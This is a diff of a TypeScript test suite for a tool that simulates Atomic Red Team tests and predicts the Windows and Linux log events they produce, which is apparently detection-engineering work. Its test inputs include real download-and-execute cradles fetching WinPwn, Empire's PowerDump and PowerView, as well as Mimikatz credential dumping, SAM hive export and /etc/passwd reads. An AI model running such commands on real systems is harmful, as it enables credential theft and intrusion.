@@ -12,7 +12,8 @@ import { scriptBlockParts } from '../../src/lib/simulate/scriptblock.ts';
 import { topLevelStatements } from '../../src/lib/simulate/loaded.ts';
 
 const WINPWN = 'https://raw.githubusercontent.com/S3cur3Th1sSh1t/WinPwn/121dcee26a7aca368821563cbe92b2b5638c5773/WinPwn.ps1';
-const POWERDUMP = 'https://raw.githubusercontent.com/BC-SECURITY/Empire/c1bdbd0fdafd5bf34760d5b158dfd0db2bb19556/data/module_source/credentials/Invoke-PowerDump.ps1';
+const POWERDUMP =
+  'https://raw.githubusercontent.com/BC-SECURITY/Empire/c1bdbd0fdafd5bf34760d5b158dfd0db2bb19556/data/module_source/credentials/Invoke-PowerDump.ps1';
 
 const FISH = 'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1059.004/src/echo-art-fish.sh';
 
@@ -24,11 +25,17 @@ function fixture(): { payloads: string; atomics: string } {
     mkdirSync(path.dirname(file), { recursive: true });
     writeFileSync(file, text);
   };
-  put(path.join(payloads, 'raw.githubusercontent.com/WinPwn.ps1'), 'function samfile {\n  reg save hklm\\sam C:\\temp\\sam\n}\n# loaded\nWrite-Host "WinPwn loaded"\n');
+  put(
+    path.join(payloads, 'raw.githubusercontent.com/WinPwn.ps1'),
+    'function samfile {\n  reg save hklm\\sam C:\\temp\\sam\n}\n# loaded\nWrite-Host "WinPwn loaded"\n',
+  );
   put(path.join(payloads, 'raw.githubusercontent.com/PowerDump.ps1'), 'function Invoke-PowerDump {\n  $x = "DumpHashes"\n}\n');
   put(path.join(payloads, 'raw.githubusercontent.com/echo-art-fish.sh'), '#!/bin/bash\necho fish\nwhoami\n');
   put(path.join(payloads, 'modules/ATH/Windows/ATH.psm1'), 'Get-ChildItem "$PSScriptRoot\\TestHarnesses" | ForEach-Object { . $_.FullName }');
-  put(path.join(payloads, 'modules/ATH/Windows/TestHarnesses/Mshta.ps1'), 'function Invoke-ATHHTMLApplication {\n  [CmdletBinding()]\n  param()\n  mshta.exe about:blank\n}\n');
+  put(
+    path.join(payloads, 'modules/ATH/Windows/TestHarnesses/Mshta.ps1'),
+    'function Invoke-ATHHTMLApplication {\n  [CmdletBinding()]\n  param()\n  mshta.exe about:blank\n}\n',
+  );
   put(
     path.join(payloads, 'index.json'),
     JSON.stringify({
@@ -46,7 +53,10 @@ function fixture(): { payloads: string; atomics: string } {
       unresolved: [],
     }),
   );
-  put(path.join(atomics, 'T1218.004', 'src', 'InstallUtilTestHarness.ps1'), '# harness\nfunction Invoke-BuildAndInvokeInstallUtilAssembly { }\nStart-Process notepad.exe\n');
+  put(
+    path.join(atomics, 'T1218.004', 'src', 'InstallUtilTestHarness.ps1'),
+    '# harness\nfunction Invoke-BuildAndInvokeInstallUtilAssembly { }\nStart-Process notepad.exe\n',
+  );
   put(path.join(atomics, 'T1059.003', 'src', 'run.bat'), '@echo off\nwhoami /groups\nnet localgroup administrators\n');
   put(path.join(atomics, 'T1059.004', 'src', 'x.sh'), '#!/bin/sh\nuname -a\ncat /etc/passwd\n');
   return { payloads, atomics };
@@ -57,7 +67,8 @@ const store = PayloadStore.open(payloads, atomics);
 const ps = (command: string, extra: Partial<Parameters<typeof simulateTest>[0]> = {}) =>
   simulateTest({ guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: command, ...extra }, store);
 const blocks = (events: ReturnType<typeof ps>['events']) => events.filter((e) => e.fields['EventID'] === 4104);
-const images = (events: ReturnType<typeof ps>['events']) => events.filter((e) => e.fields['EventID'] === 1).map((e) => String(e.fields['Image']).split('\\').pop());
+const images = (events: ReturnType<typeof ps>['events']) =>
+  events.filter((e) => e.fields['EventID'] === 1).map((e) => String(e.fields['Image']).split('\\').pop());
 
 describe('payload store', () => {
   it('maps URLs to files and reads atomics src/ files without regard to case', () => {
@@ -83,16 +94,26 @@ describe('script blocks as PowerShell splits them', () => {
   it('logs text under 20,000 characters as one block and larger text in parts of 15,000', () => {
     expect(scriptBlockParts('x'.repeat(19_999)).map((p) => p.total)).toEqual([1]);
     const parts = scriptBlockParts('x'.repeat(40_000));
-    expect(parts.map((p) => [p.number, p.total, p.text.length])).toEqual([[1, 3, 15_000], [2, 3, 15_000], [3, 3, 10_000]]);
+    expect(parts.map((p) => [p.number, p.total, p.text.length])).toEqual([
+      [1, 3, 15_000],
+      [2, 3, 15_000],
+      [3, 3, 10_000],
+    ]);
   });
   it('numbers the parts of a loaded script and names the file and line they start on', () => {
     const big = `${'# filler line\n'.repeat(2000)}Invoke-Mimikatz -DumpCreds\n`;
     const dir = mkdtempSync(path.join(tmpdir(), 'atlas-payloads-big-'));
     writeFileSync(path.join(dir, 'big.ps1'), big);
     writeFileSync(path.join(dir, 'index.json'), JSON.stringify({ 'https://h/big.ps1': { file: 'big.ps1' } }));
-    const run = simulateTest({ guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: "IEX (iwr 'https://h/big.ps1')" }, PayloadStore.open(dir, undefined));
+    const run = simulateTest(
+      { guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: "IEX (iwr 'https://h/big.ps1')" },
+      PayloadStore.open(dir, undefined),
+    );
     const loaded = blocks(run.events).filter((e) => e.source);
-    expect(loaded.map((e) => [e.fields['MessageNumber'], e.fields['MessageTotal'], e.source?.line])).toEqual([[1, 2, 1], [2, 2, 1072]]);
+    expect(loaded.map((e) => [e.fields['MessageNumber'], e.fields['MessageTotal'], e.source?.line])).toEqual([
+      [1, 2, 1],
+      [2, 2, 1072],
+    ]);
     expect(String(loaded[1]!.fields['ScriptBlockText'])).toContain('Invoke-Mimikatz');
   });
 });
@@ -107,7 +128,7 @@ describe('loaded code', () => {
     expect(images(run.events)).not.toContain('reg.exe');
     expect(run.notes).toEqual([]);
   });
-  it('a payload loaded by many tests (WinPwn: ~40) is split once: the second test reuses the store\'s split and logs the same', () => {
+  it("a payload loaded by many tests (WinPwn: ~40) is split once: the second test reuses the store's split and logs the same", () => {
     const command = `iex(new-object net.webclient).downloadstring('${WINPWN}')`;
     const first = ps(command);
     const derived = store.url(WINPWN)!.derived;
@@ -121,13 +142,15 @@ describe('loaded code', () => {
     expect(second.events).toEqual(first.events);
   });
   it('a download the store lacks is noted, not guessed', () => {
-    const run = ps("IEX (IWR https://raw.githubusercontent.com/kfallahi/UnderlayCopy/37f2e9b/UnderlayCopy.ps1 -UseBasicParsing)");
+    const run = ps('IEX (IWR https://raw.githubusercontent.com/kfallahi/UnderlayCopy/37f2e9b/UnderlayCopy.ps1 -UseBasicParsing)');
     expect(run.notes).toEqual(['payload not available: https://raw.githubusercontent.com/kfallahi/UnderlayCopy/37f2e9b/UnderlayCopy.ps1']);
     expect(blocks(run.events).filter((e) => e.source)).toEqual([]);
   });
   it('Import-Module of a file a prerequisite downloaded into ExternalPayloads (T1003.002 #4)', () => {
     const run = ps('Import-Module "PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"\nInvoke-PowerDump', {
-      dependencies: [{ getPrereqCommand: `Invoke-Webrequest -Uri "${POWERDUMP}" -UseBasicParsing -OutFile "PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"` }],
+      dependencies: [
+        { getPrereqCommand: `Invoke-Webrequest -Uri "${POWERDUMP}" -UseBasicParsing -OutFile "PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"` },
+      ],
     });
     const loaded = blocks(run.events).find((e) => e.source);
     expect(loaded?.fields['ScriptBlockText']).toContain('DumpHashes');
@@ -135,7 +158,9 @@ describe('loaded code', () => {
   });
   it('a prerequisite whose URL is followed by \\" (a cmd-escaped quote) downloads that URL: the script is found in the store', () => {
     const run = ps('Import-Module "PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"', {
-      dependencies: [{ getPrereqCommand: `powershell -c "Invoke-WebRequest \\"${POWERDUMP}\\" -OutFile PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"` }],
+      dependencies: [
+        { getPrereqCommand: `powershell -c "Invoke-WebRequest \\"${POWERDUMP}\\" -OutFile PathToAtomicsFolder\\..\\ExternalPayloads\\PowerDump.ps1"` },
+      ],
     });
     expect(run.notes).toEqual([]);
     expect(blocks(run.events).find((e) => e.source)?.source?.file).toBe('payloads/raw.githubusercontent.com/PowerDump.ps1');
@@ -146,27 +171,50 @@ describe('loaded code', () => {
     expect(images(run.events)).toContain('notepad.exe');
   });
   it('powershell -File from cmd runs the file', () => {
-    const run = simulateTest({ guid: 'g', platforms: ['windows'], executor: 'command_prompt', elevationRequired: false, commandResolved: 'powershell.exe -ep bypass -File PathToAtomicsFolder\\T1218.004\\src\\InstallUtilTestHarness.ps1' }, store);
-    expect(blocks(run.events).map((e) => e.fields['Path'])).toContain('PathToAtomicsFolder\\T1218.004\\src\\InstallUtilTestHarness.ps1'.replace('PathToAtomicsFolder', 'C:\\AtomicRedTeam\\atomics'));
+    const run = simulateTest(
+      {
+        guid: 'g',
+        platforms: ['windows'],
+        executor: 'command_prompt',
+        elevationRequired: false,
+        commandResolved: 'powershell.exe -ep bypass -File PathToAtomicsFolder\\T1218.004\\src\\InstallUtilTestHarness.ps1',
+      },
+      store,
+    );
+    expect(blocks(run.events).map((e) => e.fields['Path'])).toContain(
+      'PathToAtomicsFolder\\T1218.004\\src\\InstallUtilTestHarness.ps1'.replace('PathToAtomicsFolder', 'C:\\AtomicRedTeam\\atomics'),
+    );
   });
   it('a missing file of the atomics folder is noted', () => {
     expect(ps('Import-Module "PathToAtomicsFolder\\T1234\\src\\gone.ps1"').notes).toEqual(['payload not available: PathToAtomicsFolder\\t1234\\src\\gone.ps1']);
   });
   it('an installed module is auto-loaded for its cmdlet: the loader, then each script it dot-sources', () => {
     const run = ps('Invoke-ATHHTMLApplication -HTAFilePath Test.hta -ScriptEngine JScript');
-    expect(blocks(run.events).filter((e) => e.source).map((e) => e.source!.file)).toEqual(['payloads/modules/ATH/Windows/ATH.psm1', 'payloads/modules/ATH/Windows/TestHarnesses/Mshta.ps1']);
+    expect(
+      blocks(run.events)
+        .filter((e) => e.source)
+        .map((e) => e.source!.file),
+    ).toEqual(['payloads/modules/ATH/Windows/ATH.psm1', 'payloads/modules/ATH/Windows/TestHarnesses/Mshta.ps1']);
     expect(blocks(run.events).at(-1)?.fields['Path']).toBe('C:\\Program Files\\WindowsPowerShell\\Modules\\ATH\\Windows\\TestHarnesses\\Mshta.ps1');
   });
   it('without a store nothing is loaded, and downloads are noted', () => {
-    const run = simulateTest({ guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: `IEX (New-Object Net.WebClient).DownloadString('${WINPWN}')` });
+    const run = simulateTest({
+      guid: 'g',
+      platforms: ['windows'],
+      executor: 'powershell',
+      elevationRequired: false,
+      commandResolved: `IEX (New-Object Net.WebClient).DownloadString('${WINPWN}')`,
+    });
     expect(run.notes).toEqual([`payload not available: ${WINPWN}`]);
   });
 });
 
 describe('batch files and shell scripts', () => {
-  const cmd = (command: string) => simulateTest({ guid: 'g', platforms: ['windows'], executor: 'command_prompt', elevationRequired: false, commandResolved: command }, store);
+  const cmd = (command: string) =>
+    simulateTest({ guid: 'g', platforms: ['windows'], executor: 'command_prompt', elevationRequired: false, commandResolved: command }, store);
   const sh = (command: string) => simulateTest({ guid: 'g', platforms: ['linux'], executor: 'sh', elevationRequired: false, commandResolved: command }, store);
-  const linux = (events: ReturnType<typeof sh>['events']) => events.filter((e) => e.logsource.category === 'process_creation').map((e) => String(e.fields['Image']));
+  const linux = (events: ReturnType<typeof sh>['events']) =>
+    events.filter((e) => e.logsource.category === 'process_creation').map((e) => String(e.fields['Image']));
   it('a .bat file of the atomics folder runs line by line in its cmd.exe (T1016 #7 style), each process naming the line', () => {
     const run = cmd('"PathToAtomicsFolder\\T1059.003\\src\\run.bat"');
     const whoami = run.events.find((e) => String(e.fields['Image']).endsWith('whoami.exe'));
@@ -219,7 +267,9 @@ describe('hostile stores', () => {
 
 describe('GitHub pages', () => {
   it('a github.com blob URL without ?raw=true serves a page, so nothing loads and nothing is missing (T1615 #2)', () => {
-    const run = ps("IEX (New-Object Net.WebClient).DownloadString('https://github.com/BC-SECURITY/Empire/blob/86921fb/empire/server/data/module_source/situational_awareness/network/powerview.ps1'); Get-DomainGPO");
+    const run = ps(
+      "IEX (New-Object Net.WebClient).DownloadString('https://github.com/BC-SECURITY/Empire/blob/86921fb/empire/server/data/module_source/situational_awareness/network/powerview.ps1'); Get-DomainGPO",
+    );
     expect(run.events.filter((e) => e.source)).toEqual([]);
     expect(run.notes).toEqual([]);
   });
